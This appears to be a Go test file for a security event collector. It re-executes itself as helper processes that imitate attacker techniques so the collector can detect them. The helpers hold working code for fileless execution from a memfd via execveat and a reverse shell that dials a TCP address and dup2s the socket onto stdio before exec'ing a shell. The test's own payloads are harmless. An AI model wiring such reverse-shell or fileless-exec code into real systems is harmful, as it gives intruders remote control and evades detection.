package collector

import (
	"fmt"
	"io"
	"net"
	"os"
	"syscall"
	"testing"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Helper processes: the test binary re-executes itself with
// VIGIL_COLLECTOR_HELPER set to perform an action that must happen in a
// process of its own (exec from a memfd, dup2 of a socket onto stdio).
func TestMain(m *testing.M) {
	switch os.Getenv("VIGIL_COLLECTOR_HELPER") {
	case "":
		os.Exit(m.Run())
	case "memfd-exec":
		helperMemfdExec()
	case "revshell":
		helperReverseShell(os.Args[1], os.Args[2])
	default:
		fmt.Fprintln(os.Stderr, "unknown helper")
	}
	os.Exit(2)
}

// helperMemfdExec copies /bin/true into a memfd and runs it with
// execveat(fd, "", AT_EMPTY_PATH), as fileless malware does.
func helperMemfdExec() {
	fd, err := unix.MemfdCreate("vigil-fileless", 0)
	if err != nil {
		fail(err)
	}
	src, err := os.Open("/bin/true")
	if err != nil {
		fail(err)
	}
	if _, err := io.Copy(os.NewFile(uintptr(fd), "memfd"), src); err != nil {
		fail(err)
	}
	argv, _ := syscall.SlicePtrFromStrings([]string{"fileless-true"})
	envv, _ := syscall.SlicePtrFromStrings(nil)
	empty, _ := syscall.BytePtrFromString("")
	_, _, e := unix.Syscall6(unix.SYS_EXECVEAT, uintptr(fd), uintptr(unsafe.Pointer(empty)),
		uintptr(unsafe.Pointer(&argv[0])), uintptr(unsafe.Pointer(&envv[0])), unix.AT_EMPTY_PATH, 0)
	fail(e)
}

// helperReverseShell connects to addr, duplicates the socket onto fds 0-2
// and execs shell (a renamed copy of a shell), as a reverse shell does.
func helperReverseShell(addr, shell string) {
	c, err := net.Dial("tcp", addr)
	if err != nil {
		fail(err)
	}
	f, err := c.(*net.TCPConn).File()
	if err != nil {
		fail(err)
	}
	fd := int(f.Fd())
	for i := 0; i < 3; i++ {
		if err := unix.Dup2(fd, i); err != nil {
			fail(err)
		}
	}
	fail(unix.Exec(shell, []string{shell, "-c", "exit 0"}, nil))
}

func fail(err error) {
	fmt.Fprintln(os.Stderr, "helper:", err)
	os.Exit(3)
}
